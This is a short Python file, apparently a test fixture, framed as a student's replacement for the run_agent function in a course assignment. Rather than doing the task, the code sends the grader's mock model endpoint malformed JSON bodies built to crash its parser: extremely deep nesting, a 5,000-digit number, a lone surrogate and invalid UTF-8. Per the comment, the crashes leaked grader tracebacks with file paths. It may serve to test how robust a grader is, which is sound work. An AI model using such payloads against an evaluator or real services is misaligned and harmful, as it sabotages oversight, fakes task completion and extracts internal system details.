# A student's addition to day07.py: request bodies the grader's mock model must parse, sent by the
# learner's own openai client: arrays nested 100,000 deep, a number of 5,000 digits, a lone
# surrogate (an escape no UTF-8 can hold), bytes that are not UTF-8. Each once crashed the mock's
# parser, and the grader's traceback, with its paths, landed in this student's feedback.
import openai as _openai

_BODIES = [b"[" * 100_000 + b"]" * 100_000, b'{"model": "m", "messages": [], "n": ' + b"9" * 5000 + b"}",
           b'{"model": "m", "messages": [{"role": "user", "content": "\\ud800"}]}', b'{"model": "\xff"}']


def run_agent(user_query, tool_impl, max_iter=5):
    said = []
    for body in _BODIES:
        try:
            response = client._client.post("http://grader.invalid/v1/chat/completions", content=body)
            said.append(f"{response.status_code} {response.json()['error']['message'][:40]}")
        except _openai.APIError as error:
            said.append(f"{type(error).__name__}")
    return "ATTACK-RAN nest_the_json; " + "; ".join(said)
